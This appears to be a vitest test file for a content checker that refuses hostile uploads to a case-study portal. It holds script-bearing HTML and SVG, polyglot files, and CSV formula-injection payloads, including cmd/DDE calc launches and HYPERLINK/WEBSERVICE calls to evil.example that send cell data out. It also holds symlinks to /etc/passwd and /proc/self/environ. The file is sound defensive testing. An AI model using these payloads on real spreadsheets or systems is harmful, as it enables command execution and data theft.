import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { checkContent } from '../../src/checks/check-content.ts';
import { exifHasPlace } from '../../src/checks/picture.ts';
import { encodePicture } from '../../src/portal/pictures.ts';
import { readTable } from '../../src/portal/tables.ts';
import { listEntries } from '../../src/schemas/content-files.ts';
import { soundFolder } from './corpus.ts';

const own = 'case-studies/fenced-valley';
type Folder = ReturnType<typeof soundFolder>;
let folder: Folder | undefined;
afterEach(() => folder?.remove());

/** What the check says of the files of a folder in which something strange was put. */
async function problemsWith(prepare: (folder: Folder) => void | Promise<void>) {
  folder = soundFolder();
  await prepare(folder);
  const problems = await checkContent(folder.folder);
  return problems
    .filter(({ code }) => code !== 'stale-translation')
    .map(({ file, line, code }) => `${file}:${line} ${code}`);
}

const show =
  (name: string) =>
  ({ write, read }: Folder) =>
    write(
      `${own}/index.mdx`,
      `${read(`${own}/index.mdx`)}\n<Picture src="${name}" alt="A valley" credit="Nobody" licence="CC-BY-4.0" />\n`,
    );

const png = () =>
  sharp({ create: { width: 40, height: 30, channels: 3, background: '#10604c' } })
    .png()
    .toBuffer();
const jpeg = () => sharp({ create: { width: 40, height: 30, channels: 3, background: '#10604c' } }).jpeg();
const placedJpeg = () =>
  jpeg()
    .withExif({
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '13/1 30/1 0/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '39/1 18/1 0/1',
      },
    })
    .toBuffer();

/** The head of a PNG that says it has so many pixels. */
async function vastPng(): Promise<Buffer> {
  const bytes = Buffer.from(await png());
  bytes.writeUInt32BE(60_000, 16);
  bytes.writeUInt32BE(60_000, 20);
  const crc = crc32(bytes.subarray(12, 29));
  bytes.writeUInt32BE(crc, 29);
  return bytes;
}

function crc32(bytes: Uint8Array): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return ~crc >>> 0;
}

describe('pictures', () => {
  const pictures: readonly (readonly [string, string, string, () => Buffer | string | Promise<Buffer>])[] = [
    ['words', 'a.jpg', 'picture-unreadable', () => 'not a picture'],
    ['HTML', 'a.png', 'picture-unreadable', () => '<html><script>alert(1)</script></html>'],
    [
      'SVG under another name',
      'a.png',
      'picture-format',
      () => '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>',
    ],
    ['a PNG called JPEG', 'a.jpg', 'picture-format', png],
    ['nothing', 'a.webp', 'picture-unreadable', () => ''],
    ['half a PNG', 'a.png', 'picture-unreadable', async () => (await png()).subarray(0, 60)],
    ['more pixels than memory', 'a.png', 'picture-too-large', vastPng],
    ['a zip', 'a.jpg', 'picture-unreadable', () => Buffer.from('504b0304140000000800', 'hex')],
    ['a PDF', 'a.jpg', 'picture-unreadable', () => '%PDF-1.7\n1 0 obj'],
    ['a GIF that is a script', 'a.png', 'picture-unreadable', () => 'GIF89a=alert(1)//'],
    ['where it was taken', 'a.jpg', 'picture-location', placedJpeg],
  ];

  it.each(pictures)('that are %s are refused', async (_, name, code, bytes) => {
    const problems = await problemsWith(async (one) => {
      one.write(`${own}/${name}`, await bytes());
      show(name)(one);
    });
    expect(problems).toEqual([`${own}/${name}:1 ${code}`]);
  });

  it('that are sound pass, with a zip behind them too, which is not published', async () => {
    const bytes = Buffer.concat([
      await jpeg()
        .withExif({ IFD0: { Artist: 'A. Person' } })
        .toBuffer(),
      Buffer.from('PK\u0003\u0004<script>', 'latin1'),
    ]);
    const problems = await problemsWith((one) => {
      one.write(`${own}/a.jpg`, bytes);
      show('a.jpg')(one);
    });
    expect(problems).toEqual([]);
    const published = Buffer.from(await encodePicture(join(folder?.folder ?? '', own, 'a.jpg')));
    expect(published.includes('<script>')).toBe(false);
    expect(published.includes('Person')).toBe(false);
  });

  it('are published without the place where they were taken', async () => {
    const file = join(scratch, 'placed.jpg');
    writeFileSync(file, await placedJpeg());
    const before = (await sharp(file).metadata()).exif;
    expect(before && exifHasPlace(before)).toBe(true);
    expect((await sharp(await encodePicture(file)).metadata()).exif).toBeUndefined();
  });

  it('are searched for a place without reading past the end of broken data', () => {
    for (const bytes of [
      [],
      [0x45],
      [0x49, 0x49, 42, 0, 255, 255, 255, 255, 1, 0],
      [0x4d, 0x4d, 0, 42, 0, 0, 0, 8, 255, 255],
    ])
      expect(exifHasPlace(Uint8Array.from(bytes))).toBe(false);
  });
});

const scratch = mkdtempSync(join(tmpdir(), 'portal-strange-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

describe('a drawing with another name', () => {
  it('is not drawn by the build either', async () => {
    const file = join(scratch, 'drawing.png');
    writeFileSync(file, '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"></svg>');
    await expect(encodePicture(file)).rejects.toThrow('svg');
  });
});

describe('tables', () => {
  const formulas = [
    '=1+1',
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK(""https://evil.example?""&A1)',
    '=IMPORTXML(""https://evil.example"",""//a"")',
    '=WEBSERVICE(""https://evil.example"")',
    '＝1+1',
    '＋1',
    '－1+A1',
    '＠SUM(1)',
    '=DDE(""cmd"";""/C calc"";""x"")',
  ];
  it.each(formulas)('with %s are refused at their row', async (formula) => {
    const problems = await problemsWith(({ write }) =>
      write(`${own}/plots.csv`, `plot,note\n1,sound\n2,"${formula}"\n`),
    );
    expect(problems).toEqual([`${own}/plots.csv:3 table-formula`]);
  });

  it.each(['-5.2', '+3', '-1 234,5', '-', '--', '−5', '- 3', '-12 %', '1e-5'])(
    'with %s pass',
    async (value) => {
      expect(
        await problemsWith(({ write }) => write(`${own}/plots.csv`, `plot,note\n1,"${value}"\n`)),
      ).toEqual([]);
    },
  );

  it.each<[string, string | Buffer, string]>([
    ['semicolons', 'plot;carbon\n1;41,2\n', '1 table-separator'],
    ['tabs', 'plot\tcarbon\n1\t41.2\n', '1 table-separator'],
    ['a decimal comma without quotes', 'plot,carbon\n1,41,2\n', '2 table-columns'],
    ['Windows letters', Buffer.from('plot,place\n1,Monta\u00f1a del r\u00edo\n', 'latin1'), '1 encoding'],
    ['bytes of anything', Buffer.from([255, 254, 0, 1, 2, 3, 250, 251, 252]), '1 encoding-unknown'],
    ['turned text', 'plot,note\n1,a\u202eb\n', '2 bidi-character'],
    ['a lost letter', 'plot,note\n1,Monta\ufffda\n', '2 lost-character'],
  ])('with %s are refused', async (_, bytes, expected) => {
    expect(await problemsWith(({ write }) => write(`${own}/plots.csv`, bytes))).toEqual([
      `${own}/plots.csv:${expected}`,
    ]);
  });

  it('pass as spreadsheets save them, with a mark of UTF-8 and CR LF', async () => {
    expect(
      await problemsWith(({ write }) => write(`${own}/plots.csv`, '\ufeffplot,carbon\r\n1,41.2\r\n')),
    ).toEqual([]);
  });
});

describe('paths', () => {
  const text = '---\ntitle: x\n---\n';
  const placed =
    (path: string, content: string | Uint8Array = 'a,b\n1,2\n') =>
    ({ write }: Folder) =>
      write(path, content);
  const cases: readonly (readonly [string, string, (folder: Folder) => void])[] = [
    [`${own}/evil\u202egpj.csv`, 'path-character', placed(`${own}/evil\u202egpj.csv`)],
    [`${own}/a\u200bb.csv`, 'path-character', placed(`${own}/a\u200bb.csv`)],
    [`${own}/a\nb.csv`, 'path-character', placed(`${own}/a\nb.csv`)],
    [`${own}/con.csv`, 'reserved-name', placed(`${own}/con.csv`)],
    [`${own}/a. `, 'reserved-name', placed(`${own}/a. `)],
    [`${own}/a\\b.csv`, 'path-outside', placed(`${own}/a\\b.csv`)],
    [`${own}/.gitmodules`, 'submodule', placed(`${own}/.gitmodules`)],
    [`${own}/.git`, 'submodule', placed(`${own}/.git`, 'gitdir: /x')],
    [`${own}/.GIT`, 'submodule', ({ folder: root }) => mkdirSync(join(root, own, '.GIT'))],
    [`${own}/plots.csv`, 'case-collision', placed(`${own}/PLOTS.csv`)],
    [`${own}/run.sh`, 'file-kind', placed(`${own}/run.sh`)],
    [`${own}/page.astro`, 'file-kind', placed(`${own}/page.astro`)],
    [`${own}/data.json`, 'file-kind', placed(`${own}/data.json`)],
    [`${own}/story.md`, 'file-kind', placed(`${own}/story.md`)],
    [`${own}/story.html`, 'file-kind', placed(`${own}/story.html`)],
    [`${own}/map.svg`, 'svg-file', placed(`${own}/map.svg`, '<svg/>')],
    [`${own}/plots.csv.exe`, 'file-kind', placed(`${own}/plots.csv.exe`)],
    [`${own}/more`, 'folder-inside', placed(`${own}/more/plots.csv`)],
    [`${own}/plot 3.csv`, 'file-name', placed(`${own}/plot 3.csv`)],
    [`${own}/.env`, 'hidden-file', placed(`${own}/.env`)],
    [`${own}/en.mdx`, 'english-file', placed(`${own}/en.mdx`, text)],
    ['case-studies/index.mdx', 'outside-contribution', placed('case-studies/index.mdx', text)],
    ['case-studies/.hidden', 'hidden-file', placed('case-studies/.hidden')],
    ['references/x.json', 'not-a-yaml-file', placed('references/x.json', '{}')],
    ['references/X-1.yaml', 'slug', placed('references/X-1.yaml', 'title: x')],
    ['scripts', 'not-a-collection', placed('scripts/x.ts')],
    [
      'case-studies/linked',
      'symbolic-link',
      ({ folder: root }) => symlinkSync('/etc', join(root, 'case-studies/linked')),
    ],
    ['linked', 'symbolic-link', ({ folder: root }) => symlinkSync('/etc', join(root, 'linked'))],
    [
      `${own}/passwd.csv`,
      'symbolic-link',
      ({ folder: root }) => symlinkSync('/etc/passwd', join(root, own, 'passwd.csv')),
    ],
    [
      `${own}/gone.csv`,
      'symbolic-link',
      ({ folder: root }) => symlinkSync('nowhere', join(root, own, 'gone.csv')),
    ],
    ['case-studies/x/index.mdx', 'no-index', placed('case-studies/x/plots.csv')],
    [`${own}/huge.csv`, 'file-too-large', placed(`${own}/huge.csv`, new Uint8Array(6_500_000).fill(44))],
  ];
  it.each(cases)('%j is %s', async (file, code, prepare) => {
    expect(await problemsWith(prepare)).toContain(`${file}:1 ${code}`);
  });
});

describe('links and devices', () => {
  const links: readonly (readonly [string, string])[] = [
    ['index.mdx', '/dev/zero'],
    ['fr.mdx', '/dev/zero'],
    ['plots.csv', '/dev/zero'],
    ['a.png', '/dev/random'],
    ['index.mdx', '/etc/passwd'],
    ['plots.csv', '/proc/self/environ'],
  ];
  it.each(links)('%s to %s is refused without being read', async (name, target) => {
    const problems = await problemsWith(({ folder: root }) => {
      rmSync(join(root, own, name), { force: true });
      symlinkSync(target, join(root, own, name));
    });
    expect(problems).toContain(`${own}/${name}:1 symbolic-link`);
  });

  it('are not published by the build either', () => {
    folder = soundFolder();
    symlinkSync('/etc/passwd', join(folder.folder, own, 'passwd.csv'));
    const before = process.env['CONTENT_DIR'];
    process.env['CONTENT_DIR'] = folder.folder;
    try {
      expect(() => readTable(own, 'passwd.csv')).toThrow('is not a file');
      expect(() => readTable(own, '../../../etc/passwd')).toThrow('is not the name');
      expect(listEntries('case-studies')[0]?.others).toEqual([`${own}/plots.csv`]);
    } finally {
      if (before === undefined) delete process.env['CONTENT_DIR'];
      else process.env['CONTENT_DIR'] = before;
    }
  });
});
